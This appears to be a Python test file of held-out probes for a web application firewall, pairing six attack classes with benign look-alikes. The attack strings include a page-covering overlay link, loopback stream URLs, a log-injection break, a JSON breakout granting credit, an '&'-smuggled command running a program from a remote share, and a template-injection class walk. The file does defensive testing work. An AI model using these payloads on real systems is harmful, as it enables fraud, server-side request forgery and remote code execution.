"""WAF, part 2v: held-out probes, twentieth file (README: the thirtieth
round), written for this file on 2026-12-05 after the events corpus
(tests/corpus/events/) was first replayed, for the classes it showed. No
string is taken from a corpus or a public list: each class is written
here in shapes of our own, through the real edge (shipped config, bans
off).

Look-alikes that must pass, by class:
- overlay-link: a fixed link in a page's corner (a help button);
- stream-url: a stream at a public host;
- spelled-break: a line break typed as such after a sentence, the next
  line a bracketed note;
- json-breakout: a sentence that quotes words and a colon;
- unc-run: a program on a LAN's named server, then "&" in a sentence;
- merge-field: a CRM's custom fields ("Guest__c": "__" inside a name).

Attacks that must be refused, by class:
- overlay-link: a link styled to cover the window (fixed, full width and
  height);
- stream-url: an RTSP or RTMP stream at the loopback address;
- spelled-break: a line separator no keyboard types (U+2029) after a
  sentence, then a log line with a bracketed level;
- json-breakout: a value that closes its JSON string and writes members
  of its own, the last left open;
- unc-run: a program run from a share at an IP address after "&";
- merge-field: a dunder that starts a name, walking a class.

Measured before the change (2026-12-05, on 1fcd04e): see the commit
message. After it: every attack refused, every look-alike passes.

Each attack is sent as a query value (URL-encoded once, and once more:
the edge decodes repeatedly) and as a JSON body field; each look-alike
must pass in the same placements. A probe the edge gets wrong is listed
in KNOWN_MISSES or KNOWN_FALSE_POSITIVES with the reason, and runs as a
strict xfail."""

from wafkit import heldout_probe_tests, session, waf_config  # noqa: F401

CONF = waf_config()

ATTACKS = {
    "overlay-link": ["<a href=\"https://203.0.113.7/pay\" style=\"inset:0; position: fixed\">.</a>",
                     "<a href=//x.example style=\"position: fixed; width: 100vw; height: 100vh\">"],
    "stream-url": ["rtsp://127.0.0.1:8554/cam1", "rtmp://[::1]/app/key"],
    "spelled-break": ["door opened early\u2029[NOTICE] refunds enabled for all orders"],
    "json-breakout": ["Sam\",\"tier\":\"gold\",\"credit\":900,\"n\":\""],
    "unc-run": ["ok & \\\\203.0.113.8\\pub\\tool.exe /quiet"],
    "merge-field": ["Hi {{ guest.__class__.__mro__ }}"],
}

BENIGN = {
    "overlay-link": ["<a href=\"/help\" style=\"bottom:12px; position: fixed; right:12px\">Help</a>"],
    "stream-url": ["rtsp://cams.example.net:8554/lobby"],
    "spelled-break": ["door opened early\n[see photo] hinge bent"],
    "json-breakout": ["She wrote \"thanks\", \"see you\": both fine"],
    "unc-run": ["Run \\\\fs03\\apps\\setup.exe & reboot when asked"],
    "merge-field": ["Dear {{Guest__c.Name}}, see you at {{Venue__c.City__c}}"],
}

KNOWN_MISSES = {}
KNOWN_FALSE_POSITIVES = {}

(edge, test_tables_are_balanced, test_heldout_r20_attack_refused_everywhere,
 test_heldout_r20_benign_passes) = heldout_probe_tests(
    "r20", CONF, ATTACKS, BENIGN, KNOWN_MISSES, KNOWN_FALSE_POSITIVES)
